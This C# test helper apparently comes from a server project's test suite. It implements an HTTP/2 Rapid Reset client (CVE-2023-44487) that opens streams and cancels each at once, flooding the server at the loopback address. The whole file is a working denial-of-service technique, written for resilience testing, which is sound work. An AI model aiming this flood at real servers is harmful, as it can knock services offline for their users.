using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;

namespace LiveFeed.Tests.Support;

/// <summary>A client of HTTP/2 without TLS that resets each stream right after it has opened it (CVE-2023-44487).</summary>
internal static class RapidReset
{
    private const byte Headers = 1;
    private const byte ResetStream = 3;
    private const byte Settings = 4;
    private const byte EndsStreamAndHeaders = 5;

    /// <summary>Sends as many as the server takes. Ends when the server ends the connection, or when all are sent.</summary>
    internal static async Task SendAsync(Uri address, int streams)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        await socket.ConnectAsync(new IPEndPoint(IPAddress.Loopback, address.Port)).WithinDeadline();
        var bytes = new List<byte>();
        bytes.AddRange("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        Add(bytes, Settings, flags: 0, stream: 0, []);
        for (var i = 0; i < streams; i++)
        {
            // :method GET, :scheme http, :path /, :authority localhost (RFC 7541, appendix A).
            Add(bytes, Headers, EndsStreamAndHeaders, (2 * i) + 1, [0x82, 0x86, 0x84, 0x41, 9, .. "localhost"u8]);
            Add(bytes, ResetStream, flags: 0, (2 * i) + 1, [0, 0, 0, 8]); // CANCEL
        }

        try
        {
            await socket.SendAsync(bytes.ToArray()).WithinDeadline();
            socket.Shutdown(SocketShutdown.Send);
            while (await socket.ReceiveAsync(new byte[4_096]).WithinDeadline() > 0)
            {
            }
        }
        catch (SocketException)
        {
            // The server has ended it.
        }
    }

    private static void Add(List<byte> bytes, byte type, byte flags, int stream, byte[] payload)
    {
        Span<byte> head = stackalloc byte[9]; // RFC 9113, section 4.1
        BinaryPrimitives.WriteInt32BigEndian(head, payload.Length << 8 | type);
        head[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(head[5..], stream);
        bytes.AddRange(head);
        bytes.AddRange(payload);
    }
}
